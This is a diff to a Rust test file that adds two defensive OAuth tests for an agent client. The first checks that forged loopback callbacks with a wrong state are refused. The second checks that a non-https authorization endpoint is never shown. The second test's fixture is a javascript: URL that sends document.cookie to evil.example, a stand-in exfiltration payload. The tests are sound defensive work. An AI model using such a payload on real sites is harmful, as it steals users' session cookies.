@@ -7,7 +7,7 @@ use std::path::{Path, PathBuf};
 use std::time::Duration;
 
 use ferrite_test_support::fake_provider::{FakeProvider, Script};
-use ferrite_test_support::mcp_server::oauth::{start_http_oauth, visit};
+use ferrite_test_support::mcp_server::oauth::{query_param, start_http_oauth, visit};
 use ferrite_test_support::{AcpClient, agent_text};
 use serde_json::{Value, json};
 
@@ -475,4 +475,64 @@ async fn sessions_refreshing_at_once_keep_the_sign_in() {
     let st = server.stats();
     assert_eq!((st.authorizations, st.refused), (1, 0), "{st:?}");
     assert!(st.refreshes >= 1, "{st:?}");
+}
+
+/// The loopback listener is reachable by any local process: a callback with a code but another
+/// `state` is refused with an error page and does not end the sign-in; the user's own browser
+/// coming back afterwards still signs in.
+#[tokio::test]
+async fn a_callback_of_another_sign_in_is_refused_without_ending_this_one() {
+    let (url, server) = start_http_oauth().await;
+    let world = World::new();
+    let fake = FakeProvider::start().await.unwrap();
+    let mut c = client(&world, &fake, true).await;
+    let (sid, _) = session(&mut c, &world, &url).await;
+    let ask = c
+        .wait_for(WAIT, |m| m["method"] == "elicitation/create")
+        .await
+        .expect("an elicitation/create in URL mode");
+    let link = ask["params"]["url"].as_str().unwrap().to_owned();
+    let redirect = query_param(&link, "redirect_uri").expect("a redirect_uri");
+    c.respond(&ask["id"], json!({"action": "accept"})).await;
+    for stray in [
+        format!("{redirect}?code=stolen&state=not-this-one"),
+        format!("{redirect}?code=stolen"),
+        format!("{redirect}?error=access_denied&state=not-this-one"),
+    ] {
+        let (status, page) = visit(&stray).await;
+        assert_eq!(status, 400, "{stray}: {page}");
+    }
+    let (status, page) = visit(&link).await;
+    assert_eq!(status, 200, "{page}");
+    assert!(page.contains("Signed in"), "{page}");
+    echo_turn(&mut c, &fake, &sid, "after a stray callback").await;
+    assert_eq!(server.stats().code_grants, 1);
+}
+
+/// An authorization server whose `authorization_endpoint` is not `https` (nor `http` on this
+/// machine) is refused: its address is never sent as an elicitation URL nor shown.
+#[tokio::test]
+async fn a_sign_in_page_that_is_not_https_is_never_shown() {
+    let (url, server) = start_http_oauth().await;
+    server.authorize_at("javascript:fetch('//evil.example/'+document.cookie)//");
+    let world = World::new();
+    let fake = FakeProvider::start().await.unwrap();
+    let mut c = client(&world, &fake, true).await;
+    let (sid, _) = session(&mut c, &world, &url).await;
+    let told = c
+        .wait_for(WAIT, |m| {
+            m["method"] == "session/update" && m.to_string().contains("only https pages")
+        })
+        .await
+        .expect("the user is told why the server is not signed in");
+    assert_eq!(told["params"]["sessionId"], sid.as_str());
+    fake.push(Script::new().text("ok"));
+    let seen = prompt_to_end(&mut c, &sid, "hello").await;
+    let mut all = c.drain(Duration::from_millis(100)).await;
+    all.extend(seen);
+    all.push(told);
+    assert!(!all.iter().any(|m| m["method"] == "elicitation/create"));
+    assert!(!all.iter().any(|m| m.to_string().contains("javascript:")));
+    assert!(!c.stderr().contains("javascript:"), "{}", c.stderr());
+    assert_eq!(server.stats().authorizations, 0);
 }
